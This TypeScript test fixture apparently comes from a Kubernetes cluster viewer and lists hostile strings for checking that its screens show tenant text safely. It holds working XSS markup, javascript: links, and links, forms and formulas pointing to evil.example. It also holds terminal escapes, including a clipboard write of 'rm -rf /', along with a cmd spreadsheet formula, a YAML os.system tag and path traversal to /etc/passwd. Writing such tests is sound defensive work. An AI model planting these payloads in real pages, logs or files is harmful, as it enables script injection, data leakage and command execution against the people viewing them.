/**
 * What a tenant of the cluster can put into names, labels, annotations, messages and logs to attack
 * the person who looks at it. Every screen that shows text of the cluster is tried with each of them:
 * nothing may run, no request may leave, and the text must stand there as text.
 */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const ESC = "\u001b";
const BEL = "\u0007";

/** A payload that runs sets this on the window; a test looks for it afterwards. */
export const HOSTILE_MARK = "cutawayWasHere";
const RUN = `window.${HOSTILE_MARK}=1`;

const MARKUP: readonly HostileText[] = [
  { name: "script element", text: `<script>${RUN}</script>` },
  { name: "script that ends one", text: `</script><script>${RUN}</script>` },
  { name: "image with an error handler", text: `<img src=x onerror="${RUN}">` },
  { name: "SVG with a load handler", text: `<svg onload="${RUN}"><a href="javascript:${RUN}">x</a></svg>` },
  {
    name: "SVG foreignObject",
    text: `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  },
  {
    name: "MathML link",
    text: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  },
  { name: "mutation in noscript", text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: "attribute break", text: `" autofocus onfocus="${RUN}" x="` },
  { name: "attribute break, single quotes", text: `' onmouseover='${RUN}` },
  { name: "comment break", text: `--><img src=x onerror=${RUN}>` },
  { name: "entities", text: `&lt;img src=x onerror=${RUN}&gt; &amp;#x3c; &nbsp;` },
  {
    name: "form",
    text: '<form action="https://evil.example"><input name="attributes"><button>x</button></form>',
  },
  {
    name: "base and meta",
    text: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  },
];

const TEMPLATES: readonly HostileText[] = [
  { name: "double braces", text: `{{constructor.constructor('${RUN}')()}}` },
  { name: "dollar braces", text: `\${${RUN}}` },
  { name: "angle percent", text: `<%= ${RUN} %>` },
  { name: "format directives", text: "%s%c%o%n %d" },
];

const LINKS: readonly HostileText[] = [
  { name: "javascript link", text: `javascript:${RUN}` },
  { name: "javascript link, mixed case", text: `JaVaScRiPt:${RUN}` },
  { name: "javascript link with a tab", text: `java\tscript:${RUN}` },
  { name: "javascript link with a line break", text: `java\nscript:${RUN}` },
  { name: "javascript link behind a control", text: `\u0001javascript:${RUN}` },
  { name: "data link", text: `data:text/html,<script>${RUN}</script>` },
  { name: "vbscript link", text: "vbscript:msgbox(1)" },
  { name: "blob link", text: "blob:https://evil.example/1" },
  { name: "file link", text: "file:///etc/passwd" },
  { name: "link without a scheme", text: "//evil.example/x" },
  { name: "link of backslashes", text: "\\\\evil.example\\x" },
  { name: "two-part link", text: `title|javascript:${RUN}` },
  { name: "link with a user", text: "https://kubernetes.io@evil.example/" },
  { name: "link of look-alikes", text: "https://kubernetes.i\u043e/" },
];

const TERMINAL: readonly HostileText[] = [
  { name: "OSC 8 link", text: `${ESC}]8;;javascript:${RUN}${BEL}click${ESC}]8;;${BEL}` },
  { name: "window title", text: `${ESC}]0;owned${BEL}` },
  { name: "clipboard", text: `${ESC}]52;c;cm0gLXJmIC8=${BEL}` },
  { name: "clear and move", text: `${ESC}[2J${ESC}[1;1H${ESC}[8mhidden` },
  { name: "C1 control", text: "\u009b31mred" },
  { name: "overwritten line", text: "rm -rf /\recho safe" },
];

const UNICODE: readonly HostileText[] = [
  { name: "right-to-left override", text: "abc\u202egnp.exe" },
  { name: "isolates left open", text: "\u2066\u2067\u202b\u202dabc" },
  { name: "zero width", text: "ad\u200bmin\u200d\u2060\ufeff" },
  { name: "lone high surrogate", text: "a\ud800b" },
  { name: "lone low surrogate", text: "a\udc00b" },
  { name: "many combining marks", text: `a${"\u0301".repeat(500)}` },
  { name: "line separators", text: "a\u2028b\u2029c" },
  { name: "NUL", text: "a\0b" },
  { name: "line breaks", text: "a\r\nb\n\n\nc" },
  { name: "emoji sequence", text: "\u{1f469}\u200d\u{1f4bb}\u{1f3f4}\u{e0067}\u{e007f}" },
];

/** As names of labels, annotations, data keys and fields of custom resources too. */
export const HOSTILE_KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "then",
  "toJSON",
  "length",
  "root",
  "__next",
  "location",
  "document",
  "$ref",
  "",
  "a.b/c~1d",
];

const CSS: readonly HostileText[] = [
  { name: "CSS url", text: "red;background:url(https://evil.example/x)" },
  { name: "CSS expression", text: `expression(${RUN})` },
  { name: "style end", text: `</style><script>${RUN}</script>` },
  { name: "CSS import", text: "@import 'https://evil.example/x.css';" },
];

const FORMATS: readonly HostileText[] = [
  { name: "spreadsheet formula", text: '=HYPERLINK("https://evil.example","x")' },
  { name: "spreadsheet formula with plus", text: "+1+cmd|' /C calc'!A0" },
  { name: "YAML that is no text", text: "!!python/object/apply:os.system ['x']" },
  { name: "YAML that reads as another type", text: "no" },
  { name: "JSON break", text: '","kind":"Secret","x":"' },
  { name: "Prometheus break", text: '"} 1\nfake_metric{a="' },
  { name: "path", text: "../../../../etc/passwd" },
  { name: "escaped path", text: "%2e%2e%2f%00" },
  { name: "catastrophic for a careless pattern", text: `${"a".repeat(5000)}!` },
];

const LONG: readonly HostileText[] = [
  { name: "256 KiB in one word", text: "x".repeat(256 * 1024) },
  { name: "1 MB of words", text: "lorem ".repeat(170_000) },
  { name: "ten thousand lines", text: "line\n".repeat(10_000) },
];

export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...MARKUP,
  ...TEMPLATES,
  ...LINKS,
  ...TERMINAL,
  ...UNICODE,
  ...CSS,
  ...FORMATS,
  ...HOSTILE_KEYS.map((text) => ({ name: `key ${JSON.stringify(text)}`, text })),
  ...LONG,
];

/** Fields made one by one, so that `__proto__` becomes a field and not a prototype. */
export function ownFields(entries: ReadonlyArray<readonly [string, unknown]>): Record<string, unknown> {
  const fields: Record<string, unknown> = Object.create(null);
  for (const [key, value] of entries) fields[key] = value;
  return fields;
}
